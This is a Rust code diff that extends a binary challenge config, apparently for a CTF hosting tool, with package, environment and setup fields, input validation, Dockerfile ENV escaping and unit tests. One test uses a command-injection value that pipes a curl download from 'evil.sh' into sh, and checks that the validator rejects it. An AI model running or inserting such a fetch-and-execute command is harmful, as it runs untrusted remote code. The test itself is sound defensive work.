@@ -1,8 +1,11 @@
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
 use serde::{Deserialize, Serialize};
 
-use super::common::{FileEntry, FilePermissions, SolidFileEntry};
+use super::common::{
+    is_valid_env_key, is_valid_image, is_valid_package, FileEntry, FilePermissions, SolidFileEntry,
+};
 use crate::prelude::*;
 
 #[derive(Deserialize)]
@@ -11,6 +14,9 @@ pub struct BinaryConfig {
     cmd: String,
     executable: Vec<FileEntry>,
     readonly: Vec<FileEntry>,
+    packages: Option<Vec<String>>,
+    env: Option<BTreeMap<String, String>>,
+    setup: Option<Vec<String>>,
 }
 
 #[derive(Serialize)]
@@ -18,6 +24,9 @@ pub struct SolidBinaryConfig {
     os: String,
     cmd: String,
     file_entries: Vec<SolidFileEntry>,
+    packages: Vec<String>,
+    env: BTreeMap<String, String>,
+    setup: Vec<String>,
 }
 
 impl BinaryConfig {
@@ -30,6 +39,10 @@ impl BinaryConfig {
     }
 
     pub fn solidify(&self, work_dir: impl AsRef<Path>) -> SomaResult<SolidBinaryConfig> {
+        if !is_valid_image(&self.os) {
+            Err(SomaError::InvalidManifest)?;
+        }
+
         let executable = self
             .executable
             .iter()
@@ -40,16 +53,156 @@ impl BinaryConfig {
             .map(|file| file.solidify(&work_dir, FilePermissions::ReadOnly));
         let file_entries = executable.chain(readonly).collect::<SomaResult<Vec<_>>>()?;
 
+        let packages = self.packages.clone().unwrap_or_default();
+        if !packages.iter().all(|package| is_valid_package(package)) {
+            Err(SomaError::InvalidManifest)?;
+        }
+
+        let env = match &self.env {
+            Some(env) => env
+                .iter()
+                .map(|(key, value)| Ok((key.clone(), escape_env_value(key, value)?)))
+                .collect::<SomaResult<BTreeMap<_, _>>>()?,
+            None => BTreeMap::new(),
+        };
+
+        let setup = self.setup.clone().unwrap_or_default();
+        // Each setup command is rendered as a single RUN line
+        if setup.iter().any(|command| command.contains('\n')) {
+            Err(SomaError::InvalidManifest)?;
+        }
+
         Ok(SolidBinaryConfig {
             os: self.os.clone(),
             cmd: self.cmd.clone(),
             file_entries,
+            packages,
+            env,
+            setup,
         })
     }
 }
 
 impl SolidBinaryConfig {
+    pub fn os(&self) -> &str {
+        &self.os
+    }
+
     pub fn path_maps(&self) -> impl Iterator<Item = (&PathBuf, &PathBuf)> + '_ {
         self.file_entries.iter().map(SolidFileEntry::path_map)
     }
 }
+
+// Values are rendered inside double quotes of Dockerfile ENV instruction
+// and are taken literally, so `$` does not expand to other variables
+fn escape_env_value(key: &str, value: &str) -> SomaResult<String> {
+    // TODO: More descriptive error
+    if !is_valid_env_key(key) || value.contains('\n') {
+        Err(SomaError::InvalidManifest)?;
+    }
+
+    Ok(value
+        .replace('\\', "\\\\")
+        .replace('"', "\\\"")
+        .replace('$', "\\$"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn parse_binary_config(config: &str) -> BinaryConfig {
+        toml::from_str(config).expect("Failed to parse the binary config")
+    }
+
+    #[test]
+    fn test_binary_config_defaults() {
+        let binary_config = parse_binary_config(
+            r#"
+            os = "ubuntu:16.04"
+            cmd = "./simple-bof"
+            executable = []
+            readonly = []
+            "#,
+        )
+        .solidify("/home/simple-bof")
+        .unwrap();
+
+        assert!(binary_config.packages.is_empty());
+        assert!(binary_config.env.is_empty());
+        assert!(binary_config.setup.is_empty());
+    }
+
+    #[test]
+    fn test_binary_config_env() {
+        let binary_config = parse_binary_config(
+            r#"
+            os = "ubuntu:16.04"
+            cmd = "./simple-bof"
+            executable = []
+            readonly = []
+            packages = ["libc6-i386", "python3"]
+            setup = ["echo 1 > /proc/sys/kernel/randomize_va_space"]
+
+            [env]
+            LD_LIBRARY_PATH = "/home/simple-bof/lib"
+            BANNER = "say \"hello\" to $PROB"
+            "#,
+        )
+        .solidify("/home/simple-bof")
+        .unwrap();
+
+        assert_eq!(binary_config.packages, vec!["libc6-i386", "python3"]);
+        assert_eq!(
+            binary_config.env.get("BANNER").unwrap(),
+            r#"say \"hello\" to \$PROB"#
+        );
+
+        let invalid_key = parse_binary_config(
+            r#"
+            os = "ubuntu:16.04"
+            cmd = "./simple-bof"
+            executable = []
+            readonly = []
+
+            [env]
+            "1INVALID" = "value"
+            "#,
+        );
+        assert!(invalid_key.solidify("/home/simple-bof").is_err());
+
+        let invalid_package = parse_binary_config(
+            r#"
+            os = "ubuntu:16.04"
+            cmd = "./simple-bof"
+            executable = []
+            readonly = []
+            packages = ["python3 && curl evil.sh | sh"]
+            "#,
+        );
+        assert!(invalid_package.solidify("/home/simple-bof").is_err());
+    }
+
+    #[test]
+    fn test_binary_config_pinned_os() {
+        let pinned_config = parse_binary_config(
+            r#"
+            os = "ubuntu@sha256:9b1702dcfe32c873a770a32cfd306dd7fc1c4fd134adfb783db68defc8894b3c"
+            cmd = "./simple-bof"
+            executable = []
+            readonly = []
+            "#,
+        );
+        assert!(pinned_config.solidify("/home/simple-bof").is_ok());
+
+        let malformed_config = parse_binary_config(
+            r#"
+            os = "ubuntu@sha256:9b1702"
+            cmd = "./simple-bof"
+            executable = []
+            readonly = []
+            "#,
+        );
+        assert!(malformed_config.solidify("/home/simple-bof").is_err());
+    }
+}